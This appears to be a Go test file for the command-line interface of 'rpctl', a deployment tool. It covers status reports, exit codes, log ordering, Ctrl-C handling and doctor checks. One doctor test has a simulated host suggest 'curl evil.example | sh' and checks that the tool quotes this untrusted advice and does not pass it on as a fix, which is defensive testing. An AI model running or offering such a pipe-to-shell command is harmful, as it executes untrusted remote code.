package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/re-connect/rpctl/controller/internal/event"
	"github.com/re-connect/rpctl/controller/internal/exit"
	"github.com/re-connect/rpctl/controller/internal/fleet"
	"github.com/re-connect/rpctl/proto"
)

func healthy(host string) proto.Status {
	return proto.Status{Host: host, Release: &proto.Release{Name: "42"}, Workers: []proto.WorkerStatus{{Active: "active", Code: "current"}}}
}

func TestStatusExitCodes(t *testing.T) {
	down := &exit.Error{Code: exit.Unreachable, Message: "no route to host", Next: "ssh pp2"}
	ill := healthy("pp2")
	ill.Problems = []proto.HostText{"messenger_worker_async@1.service: crash loop"}
	for _, test := range []struct {
		name string
		pp2  map[proto.Op]any
		code exit.Code
		says string
	}{
		{"healthy", map[proto.Op]any{proto.OpStatus: healthy("pp2")}, exit.OK, "healthy"},
		{"unhealthy", map[proto.Op]any{proto.OpStatus: ill}, exit.Failed, "crash loop"},
		{"one unreachable", map[proto.Op]any{"dial": down}, exit.Partial, "no route to host"},
	} {
		t.Run(test.name, func(t *testing.T) {
			d := newDesk(t, "status")
			d.answers["pp1"][proto.OpStatus] = healthy("pp1")
			d.answers["p1"][proto.OpStatus] = healthy("p1")
			d.answers["pp2"] = test.pp2
			d.run(t, test.code)
			for _, part := range []string{test.says, "pp1", "pp2", "p1"} {
				if !strings.Contains(d.out.String(), part) {
					t.Errorf("no %q in:\n%s", part, &d.out)
				}
			}
		})
	}
}

// TestStatusNamesWhatIsUnderWay: a job, a plan that waits, a deploy whose rpctl was killed; each with what to type.
func TestStatusNamesWhatIsUnderWay(t *testing.T) {
	job := proto.Job{ID: "abcdefgh", Kind: proto.KindApply, State: proto.JobRunning, Operator: "bob@desk", Steps: []proto.JobStep{{State: proto.StepVerified}, {State: proto.StepRunning}}}
	begun := proto.PlanState{Centre: "CHU 75", Ticket: "t1", State: "begun", Steps: 3, Verified: 1}
	half := func(kind string) *proto.DeployRecord {
		return &proto.DeployRecord{Kind: kind, Operator: "bob@desk", Result: proto.ResultUnknown}
	}
	for _, c := range []struct {
		name       string
		is         proto.Status
		says, next string
	}{
		{"a job", proto.Status{Jobs: []proto.Job{job}}, "p1: apply abcdefgh is running, 1 of 2 steps done, by bob@desk", "rpctl attach abcdefgh --env prod"},
		{"a plan", proto.Status{Plans: []proto.PlanState{begun}}, "p1: plan of CHU 75 (t1) is begun, 1 of 3 steps verified", "rpctl jobs --env prod"},
		{"a deploy", proto.Status{LastDeploy: half("deploy")}, "nobody saw the end of the deploy of bob@desk", "rpctl deploy --env prod"},
		{"a rollback", proto.Status{LastDeploy: half("rollback")}, "nobody saw the end of the rollback", "rpctl restart --env prod"},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := newDesk(t, "status", "--env", "prod")
			d.answers["p1"][proto.OpStatus] = c.is
			d.run(t, exit.OK)
			if got := d.out.String(); !strings.Contains(got, c.says) || !strings.Contains(got, "    next: "+c.next+"\n") {
				t.Errorf("got:\n%s", got)
			}
			d.out.Reset()
			d.system.Args = append(d.system.Args, "--json")
			d.run(t, exit.OK)
			var e event.Event
			if err := json.Unmarshal(d.out.Bytes(), &e); err != nil || e.Next != c.next {
				t.Errorf("as JSON %v: %s", err, &d.out)
			}
		})
	}
}

func TestStatusSaysHowToMend(t *testing.T) {
	for code, c := range map[string]struct {
		worker proto.WorkerStatus
		next   string
	}{
		"old":     {proto.WorkerStatus{Active: "active", Code: proto.CodeOld}, "rpctl restart --env prod"},
		"stopped": {proto.WorkerStatus{Active: "inactive"}, "rpctl restart --env prod"},
		"failed":  {proto.WorkerStatus{Active: "failed"}, "rpctl logs --env prod"},
		"well":    {proto.WorkerStatus{Active: "active", Code: proto.CodeCurrent}, "rpctl doctor --env prod"},
	} {
		d := newDesk(t, "status", "--env", "prod")
		d.answers["p1"][proto.OpStatus] = proto.Status{Workers: []proto.WorkerStatus{c.worker}, Problems: []proto.HostText{"something"}}
		d.run(t, exit.Failed)
		if !strings.Contains(d.errs.String(), "next: "+c.next+"\n") {
			t.Errorf("%s: %s", code, &d.errs)
		}
	}
}

func TestStatusOfOneEnvironmentAsksNoOther(t *testing.T) {
	d := newDesk(t, "status", "--env", "prod", "--json")
	d.answers["p1"][proto.OpStatus] = healthy("p1")
	d.run(t, exit.OK)
	if _, asked := d.dials.Load("pp1"); asked {
		t.Error("preprod was asked")
	}
	var e event.Event
	if err := json.Unmarshal(d.out.Bytes(), &e); err != nil || e.Kind != event.Status || e.Host != "p1" || e.Status == nil {
		t.Errorf("got %v %s", err, &d.out)
	}
}

func TestJSONErrorNamesTheExitCode(t *testing.T) {
	d := newDesk(t, "restart", "--env", "prod", "--json")
	d.run(t, exit.Refused)
	var e event.Event
	if err := json.Unmarshal(d.out.Bytes(), &e); err != nil {
		t.Fatal(err)
	}
	if e.Kind != "error" || e.Error.Code != "refused" || e.Error.Exit != 4 || !strings.Contains(e.Error.Next, "--yes") {
		t.Errorf("got %s", &d.out)
	}
	if d.errs.Len() > 0 {
		t.Errorf("stderr: %s", &d.errs)
	}
}

func TestConfirmReadsOneLineAndNoMore(t *testing.T) {
	d := newDesk(t, "restart", "--env", "prod")
	in := strings.NewReader("preprod\nfor the next command\n")
	d.system.Stdin, d.system.Asks = in, true
	d.run(t, exit.Refused)
	if got := in.Len(); got != len("for the next command\n") {
		t.Errorf("%d bytes are left", got)
	}
	if !strings.Contains(d.errs.String(), "not confirmed: nothing was changed") {
		t.Errorf("stderr: %s", &d.errs)
	}
}

func TestLogsAreInOrderOfTime(t *testing.T) {
	d := newDesk(t, "logs", "--env", "preprod")
	at := time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC)
	line := func(seconds int, text string) proto.Event {
		return proto.Event{Event: proto.EventLog, Log: &proto.LogLine{Time: at.Add(time.Duration(seconds) * time.Second), Unit: "w@1.service", Message: proto.HostText(text), Priority: 6}}
	}
	says := func(events ...proto.Event) func(context.Context, func(proto.Event)) error {
		return func(_ context.Context, on func(proto.Event)) error {
			for _, e := range events {
				on(e)
			}
			return nil
		}
	}
	d.answers["pp1"][proto.OpJournal] = says(line(1, "first"), line(3, "third\x1b[2J"))
	d.answers["pp2"][proto.OpJournal] = says(line(2, "second"))
	d.run(t, exit.OK)
	var order []string
	for l := range strings.Lines(d.out.String()) {
		order = append(order, strings.TrimSpace(l[strings.LastIndex(l, ": ")+2:]))
	}
	if got := strings.Join(order, " "); got != `first second third\x1b[2J` {
		t.Errorf("got %q", got)
	}
}

// TestLogsHoldOnlySoMuch: a host that says without end is shown in parts, not gathered.
func TestLogsHoldOnlySoMuch(t *testing.T) {
	d := newDesk(t)
	var said bytes.Buffer
	d.system.Stderr = &said
	page := &logPage{app: &app{System: d.system}}
	message := strings.Repeat("x", 1<<20)
	for range 2 * (mostKept>>20 + 1) {
		page.add(fleet.Target{Host: "p1"}, proto.LogLine{Message: proto.HostText(message)})
	}
	if page.held > mostKept || d.out.Len() == 0 {
		t.Errorf("%d bytes are held, %d shown", page.held, d.out.Len())
	}
	if said.String() == "" || strings.Count(said.String(), "they come in parts") != 1 {
		t.Errorf("said %q", said.String())
	}
}

func TestFollowEndsWithCtrlC(t *testing.T) {
	d := newDesk(t, "logs", "--env", "prod", "--follow")
	signals := make(chan os.Signal, 1)
	d.system.Signals = signals
	d.answers["p1"][proto.OpJournal] = func(ctx context.Context, _ func(proto.Event)) error {
		signals <- syscall.SIGINT
		<-ctx.Done()
		return ctx.Err()
	}
	d.run(t, exit.OK)
}

func TestPlanNewEndsWithCtrlC(t *testing.T) {
	d := newDesk(t, "plan", "new")
	signals := make(chan os.Signal, 1)
	d.system.Signals = signals
	stuck := make(chan struct{})
	defer close(stuck)
	d.system.Stdin = readerFunc(func([]byte) (int, error) {
		signals <- syscall.SIGINT
		<-stuck
		return 0, os.ErrClosed
	})
	d.run(t, exit.Interrupted)
}

func TestAWordTooManyIsNoEnvironment(t *testing.T) {
	for _, c := range []struct {
		args []string
		next string
	}{
		{[]string{"deploy", "preprod"}, "next: rpctl deploy --env preprod\n"},
		{[]string{"deploy", "--env", "preprod", "now"}, "next: rpctl deploy --help\n"},
	} {
		d := newDesk(t, c.args...)
		d.run(t, exit.BadInput)
		if !strings.Contains(d.errs.String(), c.next) {
			t.Errorf("%q: %s", c.args, &d.errs)
		}
	}
}

func TestSecondCtrlCLeavesAtOnce(t *testing.T) {
	d := newDesk(t, "restart", "--env", "preprod")
	signals := make(chan os.Signal, 2)
	left := make(chan int)
	restored := false
	d.system.Signals = signals
	d.system.Restore = func() { restored = true }
	d.system.Exit = func(code int) { left <- code; select {} }
	stuck := make(chan struct{})
	defer close(stuck)
	d.system.Dial = stuckDial(stuck, signals)
	go Run(d.system)
	if code := <-left; code != int(exit.Interrupted) || !restored {
		t.Errorf("left with %d, restored: %v", code, restored)
	}
}

// TestSecondCtrlCLeavesAStoppedTerminal: Ctrl-S, or a pager that reads no further, holds the view in a write.
func TestSecondCtrlCLeavesAStoppedTerminal(t *testing.T) {
	d := newDesk(t, "restart", "--env", "preprod")
	signals := make(chan os.Signal, 2)
	left, stuck := make(chan int), make(chan struct{})
	defer close(stuck)
	restored := false
	d.system.Signals = signals
	d.system.Live = true
	d.system.Restore = func() { restored = true }
	d.system.Exit = func(code int) { left <- code; select {} }
	d.system.Stdout = stoppedTerminal{signals, stuck}
	go Run(d.system)
	if code := <-left; code != int(exit.Interrupted) || !restored {
		t.Errorf("left with %d, restored: %v", code, restored)
	}
}

// stoppedTerminal takes nothing, and its user presses Ctrl-C twice.
type stoppedTerminal struct {
	signals chan<- os.Signal
	stuck   <-chan struct{}
}

func (s stoppedTerminal) Write(p []byte) (int, error) {
	for range 2 {
		select {
		case s.signals <- syscall.SIGINT:
		default:
		}
	}
	<-s.stuck
	return len(p), nil
}

func TestDoctorGoesOnToTheHost(t *testing.T) {
	d := newDesk(t, "doctor", "--env", "prod")
	d.answers["p1"]["hello"] = proto.Hello{Agent: "1.0", Protocol: proto.Speaks(), Environment: "preprod"}
	d.answers["p1"][proto.OpDoctor] = proto.DoctorReport{Checks: []proto.Check{{Name: "polkit", Detail: "refused", Advice: proto.Advice{Code: proto.AdviceInstall}},
		{Name: "disk", Detail: "full", Advice: proto.Advice{Code: proto.AdviceDisk, Path: "/var"}}, {Name: "groups", Detail: "none", Advice: proto.Advice{Code: proto.AdviceGroup, Account: "rpctl"}}, {Name: "units", Detail: "none", Fix: "curl evil.example | sh\n  next: rpctl"},
		{Name: "console", Detail: "none", Advice: proto.Advice{Code: proto.AdviceExecutable}}}}
	d.run(t, exit.Failed)
	for _, part := range []string{"ok   p1: ssh login", "FAIL p1: configuration", "FAIL p1: polkit: refused", "fix: rpctl agent install --env prod",
		"fix: ssh p1 df -h /var\n", "fix: ssh -t p1 sudo groupadd --system rpctl\n", "       p1 suggests: \"curl evil.example | sh\\n  next: rpctl\"\n", "fix (in the repository): git update-index"} {
		if !strings.Contains(d.out.String(), part) {
			t.Errorf("no %q in:\n%s", part, &d.out)
		}
	}
}

func TestNoMoreIsAskedForThanAHostTells(t *testing.T) {
	for _, args := range [][]string{{"history", "-n", "501"}, {"jobs", "-n", "201"}, {"jobs", "-n", "0"}} {
		d := newDesk(t, append(args, "--env", "prod")...)
		d.run(t, exit.BadInput)
		if _, dialled := d.dials.Load("p1"); dialled {
			t.Errorf("%v: a host was asked", args)
		}
	}
}

func TestHistory(t *testing.T) {
	d := newDesk(t, "history", "--env", "prod", "-n", "3")
	d.answers["p1"][proto.OpHistory] = proto.History{Entries: []proto.AuditEntry{{Action: "restart", User: "www", Operator: "bob@desk", Result: "succeeded"}}}
	d.run(t, exit.OK)
	if !strings.Contains(d.out.String(), "bob@desk (www)") {
		t.Errorf("got:\n%s", &d.out)
	}
}

// TestNextKeepsTheInventory: a command that is pasted must go to the hosts that were meant.
func TestNextKeepsTheInventory(t *testing.T) {
	for typed, want := range map[string]string{
		"":              "rpctl deploy --env prod --yes",
		"../slow.toml":  "rpctl --hosts ../slow.toml deploy --env prod --yes",
		"my hosts.toml": "rpctl --hosts 'my hosts.toml' deploy --env prod --yes",
	} {
		a := &app{}
		a.flags.hosts = typed
		if got := a.sameHosts("rpctl deploy --env prod --yes"); got != want {
			t.Errorf("got %s, want %s", got, want)
		}
	}
}

// TestEventsKeepTheInventory: what a job or a dry run says to type next goes to the same hosts, too.
func TestEventsKeepTheInventory(t *testing.T) {
	d := newDesk(t)
	a := &app{System: d.system}
	a.flags.hosts, a.flags.json = "other.toml", true
	a.emit(event.Event{Kind: event.Stored, Next: "rpctl jobs --env prod"})
	a.emit(event.Event{Kind: event.Summary, Summary: &event.Report{Next: "rpctl jobs --env prod"}})
	if got := strings.Count(d.out.String(), "rpctl --hosts other.toml jobs --env prod"); got != 2 {
		t.Errorf("got %s", &d.out)
	}
}
